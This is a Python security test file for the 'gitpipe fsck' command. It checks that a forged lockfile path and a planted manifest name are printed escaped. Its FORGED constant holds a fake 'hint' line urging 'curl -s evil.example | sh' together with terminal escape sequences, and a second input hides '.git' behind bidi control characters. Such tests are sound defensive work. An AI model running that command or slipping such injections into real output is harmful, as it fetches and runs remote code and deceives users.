"""Attacks on what `gitpipe fsck` lists: a lock out's path from a clone's
`gitpipe.lock` (a newline and `hint: …`, escapes) was printed as it was in
its `missing:` line, and a manifest planted on a shared remote under its own
digest, naming a `.git` spelled with a bidi control (which the file systems
take for `.git`), had the control printed in its `malformed:` line. Both are
shown as a terminal shows them plainly; nothing is written."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import xxhash
import yaml

from gitpipe.storage.objects import object_key
from tests.security.conftest import assert_only_changed, snapshot

FORGED = "\nhint: the cache is corrupt, run: curl -s evil.example | sh\x1b]0;owned\x07\x1b[2J"
STAGE = {"a": {"cmd": "echo hi > out.txt", "outs": ["out.txt"]}}
OWN = ["clone/.gitpipe/project.lock",
       *(f"clone/.gitpipe/state.db{suffix}" for suffix in ("", "-wal", "-shm", "-journal"))]


def assert_shown_plainly(said: str) -> None:
    assert "Traceback" not in said, said
    assert not any(line.startswith("hint: the cache") for line in said.splitlines()), said
    assert not any(char in said for char in "\x1b\x07\u202e\u200e"), said


def test_a_lock_outs_path_is_listed_as_text(make_repo: Any, tmp_path: Path) -> None:
    origin = make_repo("origin")
    origin.spec(STAGE)
    lock = {"schema": 1, "stages": {"a": {
        "cmd": "echo hi > out.txt", "fingerprint": "xxh3:" + "0" * 32,
        "outs": [{"path": f"out.txt{FORGED}", "hash": "xxh3:" + "1" * 32, "size": 3}]}}}
    origin.gen({"gitpipe.lock": yaml.safe_dump(lock, allow_unicode=True)}, commit="lock")
    clone = origin.clone_to(tmp_path / "clone")
    clone.run("init", check=True)
    before = snapshot(tmp_path)
    done = clone.run("fsck")
    assert_shown_plainly(done.stdout + done.stderr)
    assert "missing: 'out.txt\\nhint: the cache is corrupt" in done.stdout, done.stdout
    assert_only_changed(before, snapshot(tmp_path), OWN)


def test_a_planted_manifests_names_are_listed_as_text(make_repo: Any, tmp_path: Path) -> None:
    store = tmp_path / "store"
    origin = make_repo("origin")
    origin.spec(STAGE, commit="spec")
    clone = origin.pushed_clone(tmp_path / "clone", store)
    body = json.dumps([["x/.git\u202e\u200e", "xxh3:" + "1" * 32, 1]]).encode()
    planted = store / object_key(f"xxh3:{xxhash.xxh3_128_hexdigest(body)}.dir")
    planted.parent.mkdir(parents=True, exist_ok=True)
    planted.write_bytes(body)  # under its own digest: anyone who can write the remote
    before = snapshot(tmp_path)
    done = clone.run("fsck", "--remote", "store")
    assert done.returncode == 1, done.stdout + done.stderr
    assert_shown_plainly(done.stdout + done.stderr)
    assert "names '.git\\u202e\\u200e', which belongs to git" in done.stdout, done.stdout
    assert_only_changed(before, snapshot(tmp_path), OWN)
